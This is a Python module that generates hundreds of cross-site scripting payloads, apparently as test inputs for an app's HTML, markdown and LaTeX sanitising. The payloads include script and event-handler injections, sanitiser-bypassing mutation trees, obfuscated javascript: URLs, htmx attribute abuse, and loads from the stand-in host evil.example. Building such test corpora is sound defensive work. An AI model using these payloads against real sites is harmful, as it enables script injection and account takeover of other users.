# ruff: noqa: E501 - one vector is one line
r"""Texts that try to run a script in a page, made of their parts: what runs x how it is spelled x where it is written.

A vector has a number, and what it runs is `alert(number)`, so that whatever runs says which vector it was. What it
would load lies below `HOST`, and what it would have htmx ask for below `ACTED`.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from itertools import product
from urllib.parse import quote

HOST = "evil.example"
ACTED = "/acted/"


@dataclass(frozen=True)
class Vector:
    number: int
    text: str


# Elements that run by themselves when a page with them is opened, or would load something. RUN is the script.
AUTO = [
    "<script>RUN</script>",
    "<SCRIPT>RUN</SCRIPT >",
    "<script/x>RUN</script>",
    "<script\t>RUN</script\n>",
    "<script src=//HOST/N.js></script>",
    "<script src=data:text/javascript,RUN></script>",
    "<script type=module>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=x onerror=RUN>",
    "<img/src=x/onerror=RUN>",
    "<img src=x onerror\n=\nRUN>",
    "<img src=x onerror=&#97;lert(N)>",
    "<img src=x onerror=\\u0061lert(N)>",
    "<image src=x onerror=RUN>",
    "<img src=//HOST/N.png>",
    "<img srcset=//HOST/N.png>",
    '<IMG """><SCRIPT>RUN</SCRIPT>">',
    "<<img src=x onerror=RUN//",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=data:,RUN />",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><set onbegin=RUN attributeName=x></svg>",
    "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=RUN>></svg>",
    "<svg><image href=x onerror=RUN></svg>",
    "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
    "<math href=javascript:RUN>x</math>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src=javascript:parent.RUN></iframe>",
    "<iframe src=//HOST/N></iframe>",
    "<iframe onload=RUN></iframe>",
    "<embed src=data:text/html,<script>RUN</script>>",
    "<object data=javascript:RUN></object>",
    "<object data=//HOST/N></object>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<video><source onerror=RUN></video>",
    "<video src=x onerror=RUN>",
    "<video poster=//HOST/N.png></video>",
    "<audio src=x onerror=RUN></audio>",
    "<input autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<select autofocus onfocus=RUN></select>",
    "<button autofocus onfocus=RUN popovertarget=x>x</button>",
    "<a href=# autofocus onfocus=RUN tabindex=0>x</a>",
    "<x contenteditable autofocus onfocus=RUN>x</x>",
    "<marquee onstart=RUN>x</marquee>",
    "<style onload=RUN></style>",
    "<style>@import '//HOST/N.css';</style>",
    "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=RUN>x</p>",
    "<link rel=stylesheet href=//HOST/N.css>",
    "<link rel=preload as=script href=//HOST/N.js>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
    "<base href=//HOST/>",
    "<p style=background:url(//HOST/N.png)>x</p>",
    "<p style=width:expression(RUN)>x</p>",
    "<div style=behavior:url(//HOST/N.htc)>x</div>",
    "<table background=//HOST/N.png><td>x</table>",
    "<form action=javascript:RUN><button>x</button></form>",
    "<form><button formaction=javascript:RUN>x</button></form>",
    "<isindex type=image src=x onerror=RUN>",
    "<template><script>RUN</script></template>",
    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
    "<noscript><img src=x onerror=RUN></noscript>",
    "<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>",
]

# What ends the place in which a text is shown, so that an element stands behind it.
ENDS = [
    "</p>", "</div>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>", "</select>",
    "</math>", "</svg>", "</code></pre>", "</bdi>", "</li></ul>", "</td></table>", "-->", "--!>", "]]>", "?>", "\">", "'>",
    "\"/>", "`>", "\\\">", "%00>", "&quot;>", "\u201d>", "\uff1e", "{{", "{%",
]  # fmt: skip

# Trees that browsers read otherwise than sanitisers: what is written again is another tree than what was checked.
MUTATIONS = [
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
    "<math><mtext><table><mglyph><style><math><mtext><img src=x onerror=RUN>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=RUN></style></annotation-xml></math>",
    "<math><annotation-xml encoding=text/html><script>RUN</script></annotation-xml></math>",
    "<math><mi><style><!--</style><style>--!><img src=x onerror=RUN></style></mi></math>",
    "<math><semantics><annotation encoding='application/x-tex'><img src=x onerror=RUN></annotation></semantics></math>",
    "<svg></p><style><a id='</style><img src=x onerror=RUN>'></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<svg><desc><style><img src=x onerror=RUN></style></desc></svg>",
    "<svg><title><style><img src=x onerror=RUN></style></title></svg>",
    "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
    "<svg><foreignObject><math><mi><style><img src=x onerror=RUN></style></mi></math></foreignObject></svg>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<noembed><p title='</noembed><img src=x onerror=RUN>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=RUN>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "<plaintext><img src=x onerror=RUN>",
    "<style><style/><img src=x onerror=RUN>",
    "<textarea><p title='</textarea><img src=x onerror=RUN>'></textarea>",
    "<template><p title='</template><img src=x onerror=RUN>'></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<form id=a></form><form><input form=a onfocus=RUN autofocus></form>",
    "<table><a href='javascript:RUN'><tr><td><img src=x onerror=RUN></table>",
    "<select><template><img src=x onerror=RUN></template></select>",
    "<option><style></option></select><img src=x onerror=RUN></style></option>",
    "<!--><img src=x onerror=RUN>-->",
    "<!--!><img src=x onerror=RUN>--!>",
    "<!-- --!><img src=x onerror=RUN> -->",
    "<![CDATA[<script>RUN</script>]]>",
    "<!DOCTYPE x [<!ENTITY y '<script>RUN</script>'>]>&y;",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
    "<?php echo '<script>RUN</script>'; ?>",
    "<%<!--'%><script>RUN</script -->",
    "<a <!-- x='--><img src=x onerror=RUN>'>",
    "<p/title='>' title='<img src=x onerror=RUN>'>",
    "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "<frameset onload=RUN>",
    "<div><svg></div><style><p id='</style><img src=x onerror=RUN>'>",
    "<b><p><math></b><img src=x onerror=RUN></math>",
    *(f"<{outer}><{inner}><img src=x onerror=RUN></{inner}></{outer}>" for outer in ("math", "svg", "math><mtext", "svg><desc")
      for inner in ("style", "noscript", "title", "textarea", "xmp", "iframe", "script", "template", "p", "table")),
]  # fmt: skip

TAGS = [
    "a", "b", "body", "br", "button", "code", "details", "div", "dialog", "em", "form", "h4", "hr", "iframe", "img",
    "input", "label", "li", "math", "menclose", "mi", "mtext", "object", "p", "pre", "section", "span", "sup", "svg",
    "table", "td", "textarea", "video", "x-y",
]  # fmt: skip
HANDLERS = [
    "onclick", "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart",
    "ontransitionend", "onbeforetoggle", "oncontentvisibilityautostatechange", "onbegin", "ONCLICK", "on\u0000click",
]  # fmt: skip

# Attributes that a script of the page acts upon, and names that hide what its scripts look for.
ACTS = [
    "hx-get=ACTED hx-trigger=load", "data-hx-get=ACTED data-hx-trigger=load", "hx-post=ACTED hx-trigger=load",
    "hx-get=ACTED hx-trigger='every 1s'", "hx-get=ACTED hx-trigger=revealed", "hx-delete=ACTED hx-trigger=intersect",
    "hx-get=ACTED hx-trigger='load[RUN]'", "hx-on:load=RUN", "hx-on::load=RUN", "data-hx-on:click=RUN",
    "hx-vals='js:{x:RUN}' hx-get=ACTED hx-trigger=load", "hx-headers='js:{x:RUN}'", "hx-boost=true href=ACTED",
    "hx-swap-oob=true id=toasts", "hx-swap-oob=outerHTML:#post id=x", "hx-ext=x", "hx-history-elt", "hx-preserve id=announcer",
    "data-seen-url=ACTED", "data-live=ACTED data-asks=ACTED", "data-dialog=x", "data-copy=x", "data-undo", "data-dismiss",
    "data-target=note:1", "data-draft", "data-new", "data-focus", "autofocus", "data-into=notes", "data-gone=main",
    "data-say=x", "x-data=RUN x-init=RUN", "ng-app ng-click=RUN", "v-on:click=RUN", "@click=RUN", "is=x-y",
    "id=post name=post", "id=toasts", "id=announcer", "id=toast", "id=draft", "id=main", "name=csrfmiddlewaretoken value=x form=post",
    "id=htmx name=htmx", "id=body name=body", "name=activeElement", "name=getElementById", "id=querySelector name=querySelector",
    "id=location name=location", "id=currentScript name=currentScript", "name=cookie", "popover id=x", "popovertarget=main",
    "command=show-modal commandfor=x", "slot=x", "part=x", "contenteditable", "accesskey=x", "form=post formaction=ACTED",
    "ping=//HOST/N href=#", "download href=data:text/html,RUN", "target=_self href=javascript:RUN", "xml:base=javascript:RUN/",
    "xlink:href=javascript:RUN", "srcdoc='<script>RUN</script>'", "style='position:fixed;inset:0'", "class='toast htmx-request'",
]  # fmt: skip

# Addresses that run, or would be loaded, in the spellings in which browsers still read them.
ADDRESSES = [
    "javascript:RUN", "JaVaScRiPt:RUN", "javascript:RUN//https://x.org/", "javascript://x.org/%0aRUN", "javascript:%61lert(N)",
    "javascript:alert%28N%29", "javascript&colon;RUN", "javascript&#58;RUN", "javascript&#x3a;RUN", "javascript&#0000058;RUN",
    "&#106;avascript:RUN", "&#x6a;avascript:RUN", "&#x6A&#x61vascript:RUN", "&Tab;javascript:RUN", "java&Tab;script:RUN",
    "java&NewLine;script:RUN", "java&#9;script:RUN", "java&#10;script:RUN", "java&#13;script:RUN", "java%0ascript:RUN",
    "java%09script:RUN", "java\\tscript:RUN", "java\\script:RUN", "\\javascript:RUN", "javascript\\:RUN",
    "\u0001javascript:RUN", "\u001fjavascript:RUN", "java\u0000script:RUN", "javascript\u0000:RUN", "\u00a0javascript:RUN",
    "\u2028javascript:RUN", "\u3000javascript:RUN", "\ufeffjavascript:RUN", "\u200bjavascript:RUN", "\u00adjavascript:RUN",
    "java\u200dscript:RUN", "\uff4aavascript:RUN", "javascript\uff1aRUN", "java\u017fcript:RUN", "\u202ejavascript:RUN",
    "java&#x202e;script:RUN", "&#x2066;javascript:RUN", "&#1;javascript:RUN", "&#x1f;javascript:RUN", "&nbsp;javascript:RUN", "&ZeroWidthSpace;javascript:RUN", "&shy;javascript:RUN",
    "%6aavascript:RUN", "%20javascript:RUN", "view-source:javascript:RUN", "feed:javascript:RUN", "jar:javascript:RUN",
    "vbscript:RUN", "livescript:RUN", "mocha:RUN", "data:text/html,<script>RUN</script>", "DATA:text/html;charset=utf-8,%3Cscript%3ERUN%3C/script%3E",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=RUN>", "data:,RUN", "data&colon;text/html,RUN",
    "da&Tab;ta:text/html,RUN", "blob:https://x.org/RUN", "file:///etc/passwd?N", "filesystem:RUN", "about:blank#RUN", "chrome://N",
    "intent:RUN", "ws://HOST/N", "tel:N", "//javascript:RUN", "/\\javascript:RUN", "http:javascript:RUN", "https:\\javascript:RUN",
    "javascript:/*https://x.org*/RUN", "javascript:'https://x.org';RUN", "x:javascript:RUN", ":javascript:RUN", "https://x.org/\"onmouseover=RUN",
    "https://x.org/'onmouseover='RUN", "https://x.org/><script>RUN</script>", "https://x.org/&quot;&gt;<svg/onload=RUN>",
    "mailto:x?body=\"><script>RUN</script>", "#\"onclick=RUN", "?q=\"><img src=x onerror=RUN>",
]  # fmt: skip
AT = [
    "[x]({})", "[x](<{}>)", "[x]({} \"t\")", "[x]( {} )", "![x]({})", "[![x]({})]({})", "<{}>", "[rN]: {}\n\n[rN] [x][rN]",
    "[rN]:\n<{}> 't'\n\n![rN]", "x[^N] [y]({})\n\n[^N]: [x]({}) {}", "| a |\n|---|\n| [x]({}) {} |", "## [x]({}) {}",
    "- [ ] [x]({})", "> [*x*]({} 't')", "\u89c1{}\u3002", "**[`x`]({})**",
]  # fmt: skip

# Titles, alternative texts, names of languages: places that become attributes.
ATTRIBUTES = [
    "\" onmouseover=RUN x=\"", "' onmouseover='RUN", "\"onfocus=RUN autofocus tabindex=0 x=\"", "\"><script>RUN</script>",
    "'><img src=x onerror=RUN>", "&quot; onmouseover=RUN &quot;", "&#34;><svg onload=RUN>", "&#x22;&#x3e;<img src=x onerror=RUN>",
    "\\\" onmouseover=RUN \\\"", "\"/**/onmouseover=RUN//", "\"\u000conclick=RUN ", "\"\u00a0onclick=RUN ", "`onclick=RUN`",
    "\" style=\"background:url(//HOST/N)\"", "\" hx-get=\"ACTED\" hx-trigger=\"load\"", "\" id=\"toasts\" x=\"", "x\ny\" onload=RUN",
    "\" srcdoc=\"<script>RUN</script>", "</code></pre><script>RUN</script>", "<script>RUN</script>", "{{7*7}}<script>RUN</script>",
]  # fmt: skip
ATTRIBUTE_AT = [
    "[x](https://x.org '{}')", "[x](https://x.org ({}))", "![{}](https://x.org)", "![x](https://x.org/a.png '{}')", "[rN]: https://x.org '{}'\n\n[rN]",
    "```{}\nx\n```", "~~~html {}\nx\n~~~", "```math {}\nx\n```", "[^{}N]\n\n[^{}N]: x", "`{}`", "[{}](https://x.org)", "@{} #1 arXiv:2203.02155{}",
]  # fmt: skip

LATEX = [
    r"\href{javascript:RUN}{x}", r"\href{java	script:RUN}{x}", r"\href{data:text/html,RUN}{x}", r"\url{javascript:RUN}", r"\href{%6aavascript:RUN}{x}",
    r"\includegraphics{//HOST/N.png}", r"\includegraphics[alt='onerror=RUN']{x}", r"\htmlClass{x onclick=RUN}{x}", r"\htmlId{toasts}{x}",
    r"\htmlStyle{background:url(//HOST/N)}{x}", r"\htmlData{hx-get=ACTED,hx-trigger=load}{x}", r"\htmlData{x=\"onclick=RUN}{x}", r"\class{x\" onclick=RUN}{x}",
    r"\id{main}{x}", r"\style{x:expression(RUN)}{x}", r"\data{hx-get=ACTED}{x}", r"\cssId{x\" onclick=RUN}{x}", r"\text{<script>RUN</script>}",
    r"\text{</mtext></math><img src=x onerror=RUN>}", r"\text{</math><svg onload=RUN>}", r"\text{&lt;img src=x onerror=RUN&gt;}", r"\text{<style><img src=x onerror=RUN></style>}",
    r"\mathrm{<img src=x onerror=RUN>}", r"\operatorname{<svg onload=RUN>}", r"\mbox{\"><script>RUN</script>}", r"\verb|<script>RUN</script>|", r"\tag{<script>RUN</script>} x",
    r"\tag{\href{javascript:RUN}{1}} x", r"\label{x\" onclick=RUN} x \ref{x\" onclick=RUN}", r"\label{toasts} \eqref{<img src=x onerror=RUN>}", r"\ref{javascript:RUN}",
    r"\color{red;background:url(//HOST/N)} x", r"\color{\"onclick=RUN} x", r"\textcolor{expression(RUN)}{x}", r"\colorbox{red\" onclick=RUN}{x}", r"\fcolorbox{red}{//HOST/N}{x}",
    r"\rule{1em\" onclick=RUN}{1em}", r"\hspace{1em\" onclick=RUN} x", r"\raisebox{1em\" onmouseover=RUN}{x}", r"\kern1em\"onclick=RUN x", r"\\[1em\" onclick=RUN] x",
    r"\begin{array}{c\" onclick=RUN}x\end{array}", r"\begin{<script>RUN</script>}x\end{x}", r"\begin{matrix}<img&src=x&onerror=RUN>\end{matrix}", r"\begin{CD} A @>{<script>RUN</script>}>> B \end{CD}",
    r"\unicode{x3c}script\unicode{x3e}RUN", r"\char`\<script\char`\>RUN", r"\char`\" onclick=RUN", r"\def\x{<script>RUN</script>}\x", r"\newcommand{\x}[1]{\href{#1}{x}}\x{javascript:RUN}",
    r"\let\x\href\x{javascript:RUN}{x}", r"\gdef\x{\text{<img src=x onerror=RUN>}}\x", r"\require{html}\href{javascript:RUN}{x}", r"\toggle{x}{\text{<script>RUN</script>}}\endtoggle",
    r"\mathtip{x}{<script>RUN</script>}", r"\texttip{x}{<img src=x onerror=RUN>}", r"\bbox[red;background:url(//HOST/N)]{x}", r"\enclose{x\" onclick=RUN}{x}", r"\ce{<script>RUN</script>}",
    r"\pu{<img src=x onerror=RUN>}", r"\input{//HOST/N} \include{//HOST/N} \write18{RUN}", r"\constructor \__proto__ \toString{RUN}", r"x</math><script>RUN</script>", r"x' onclick='RUN", r"x<!--RUN-->",
    r"\undefined<script>RUN</script>", r"\frac{<svg onload=RUN>", r"\%<img src=x onerror=RUN>",
]  # fmt: skip
FORMULA_AT = ["${}$", "$$\n{}\n$$", "\\({}\\)", "$`{}`$", "```math\n{}\n```", "| $ {} $ |\n|---|\n| ${}$ |"]

# Where raw HTML may be written, and what may be done to its letters, so that it is read again as HTML.
HTML_AT = [
    "{}", "\n{}\n", "x {} y", "**{}**", "# {}", "- {}", "1. {}", "> {}", "| a |\n|---|\n| {} |", "[{}](https://x.org)",
    "![{}](https://x.org/a.png)", "[x](https://x.org \"{}\")", "`{}`", "    {}", "```html\n{}\n```", "```\n{}\n```", "~~~js\n{}\n~~~", "x[^N]\n\n[^N]: {}",
    "- [x] {}", "$\\text{{}}$", "\\({}\\)", "\u4e2d\u6587\u201c**{}**\u201d\u3002", "~~{}~~", "#1 {} @Bob",
]  # fmt: skip


def vectors() -> list[Vector]:
    """Return all vectors, each text once."""
    found: dict[str, None] = {}
    for text in _texts():
        found.setdefault(text)
    return [Vector(number, _numbered(text, number)) for number, text in enumerate(found, 1)]


def storable() -> list[Vector]:
    """Return those that a form takes: no text with a NUL gets as far as the database."""
    return [each for each in vectors() if "\x00" not in each.text]


def lines() -> list[str]:
    """Return what is put into fields of one line, HTML as it stands; the shortest first."""
    pieces = [
        *AUTO,
        *MUTATIONS,
        *ATTRIBUTES,
        *(f"<div {act}>x" for act in ACTS),
        *(f"{end}<img src=x onerror=RUN>" for end in ENDS),
    ]
    texts = (_numbered(text, number) for number, text in enumerate(pieces, 1) if text.isprintable())
    return sorted(texts, key=len)


def addresses() -> list[str]:
    """Return what is put where an address belongs."""
    return [_numbered(address, number) for number, address in enumerate(ADDRESSES, 1) if "\x00" not in address]


def _numbered(text: str, number: int) -> str:
    text = text.replace("RUN", f"alert({number})").replace("HOST", HOST).replace("ACTED", f"{ACTED}{number}")
    return (
        text.replace("(N)", f"({number})")
        .replace("/N", f"/{number}")
        .replace("rN]", f"r{number}]")
        .replace("N]", f"{number}]")
    )


def _texts() -> Iterator[str]:
    yield from _html()
    for address in ADDRESSES:
        yield from (place.replace("{}", address) for place in AT)
    for said, place in product(ATTRIBUTES, ATTRIBUTE_AT):
        yield place.replace("{}", said)
    for formula, place in product(LATEX, FORMULA_AT):
        yield place.replace("{}", formula)


def _html() -> Iterator[str]:
    for element, place in product(AUTO, HTML_AT):
        yield place.replace("{}", element)
    yield from MUTATIONS
    yield from (f"{end}<img src=x onerror=RUN>" for end in ENDS)
    for tag, handler in product(TAGS, HANDLERS):
        yield f"<{tag} {handler}=RUN tabindex=0 src=x>x</{tag}>"
    for tag, act in product(("div", "a", "form"), ACTS):
        yield f"<{tag} {act}>x</{tag}>"
    for element in AUTO:
        yield escape(element)
        yield escape(escape(element))
        yield quote(element)
        yield "".join(f"&#{ord(letter)};" for letter in element)
        yield element.replace("<", "\\<").replace("=", "\\=")
        yield element.replace("<", "\uff1c").replace(">", "\uff1e")
        yield element.replace("<", "\\u003c").replace(">", "\\u003e")
        yield element.replace("<", "%3C").replace(">", "%3E")
        yield element.replace("<", "<\u0000").replace("=", "=\u0000")
        yield element.replace(" ", "\u000c").replace("=", "\u000b=")
